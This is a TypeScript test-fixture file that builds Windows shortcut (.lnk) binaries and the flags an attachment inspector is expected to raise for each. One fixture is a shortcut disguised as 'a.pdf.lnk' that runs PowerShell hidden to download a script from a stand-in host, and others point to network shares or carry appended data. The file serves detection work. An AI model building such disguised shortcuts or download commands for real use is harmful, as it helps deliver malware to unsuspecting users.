// Examples of Windows shortcuts.
import type { InspectorExample } from "../types.ts";

/** A shortcut to this target with these words. */
export function writeShortcut(target: string, words = "", { network = false, behind = 0 } = {}): Buffer {
  const header = Buffer.alloc(0x4c);
  header.writeUInt32LE(0x4c, 0);
  Buffer.from("0114020000000000c000000000000046", "hex").copy(header, 4);
  header.writeUInt32LE(2 | (words ? 32 : 0) | 0x80, 20);
  const text = Buffer.alloc(2);
  text.writeUInt16LE(words.length);
  const strings = words ? [text, Buffer.from(words, "utf16le")] : [];
  const tracker = Buffer.alloc(96);
  tracker.writeUInt32LE(96, 0);
  tracker.writeUInt32LE(0xa0000003, 4);
  tracker.write("desk-1", 16, "latin1");
  return Buffer.concat([
    header,
    network ? networkInfo(target) : localInfo(target),
    ...strings,
    tracker,
    Buffer.alloc(4 + behind, 1).fill(0, 0, 4),
  ]);
}

function localInfo(target: string): Buffer {
  const path = Buffer.from(`${target}\0\0`, "latin1");
  const info = Buffer.alloc(28);
  info.writeUInt32LE(28 + path.length, 0);
  info.writeUInt32LE(28, 4);
  info.writeUInt32LE(1, 8);
  info.writeUInt32LE(28, 16);
  info.writeUInt32LE(28 + path.length - 1, 24);
  return Buffer.concat([info, path]);
}

function networkInfo(target: string): Buffer {
  const share = Buffer.from(`${target}\0\0`, "latin1");
  const info = Buffer.alloc(28 + 20);
  info.writeUInt32LE(info.length + share.length, 0);
  info.writeUInt32LE(28, 4);
  info.writeUInt32LE(2, 8);
  info.writeUInt32LE(28, 20);
  info.writeUInt32LE(info.length + share.length - 1, 24);
  info.writeUInt32LE(20, 28 + 8);
  return Buffer.concat([info, share]);
}

const sees = (octets: Buffer, flags: string[] = [], links?: string[]): InspectorExample => ({
  part: { filename: "a.pdf.lnk", octets },
  sees: { title: "Windows shortcut", flags, ...(links && { links }) },
});

export function shortcutExamples(): InspectorExample[] {
  const shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
  return [
    sees(writeShortcut("C:\\Program Files\\Editor\\editor.exe")),
    sees(
      writeShortcut(shell, "-w hidden iwr http://example.test/a.ps1"),
      ["shortcut-runs-command"],
      ["http://example.test/a.ps1"],
    ),
    sees(writeShortcut("C:\\Windows\\notepad.exe", "x".repeat(300)), ["shortcut-runs-command"]),
    sees(writeShortcut("\\\\files.example.test\\share\\a.exe", "", { network: true }), ["shortcut-to-server"]),
    sees(writeShortcut("C:\\a.exe", "", { behind: 10_000 }), ["shortcut-carries-data"]),
    { part: { octets: Buffer.from("4c00000001", "hex") }, sees: null },
  ];
}
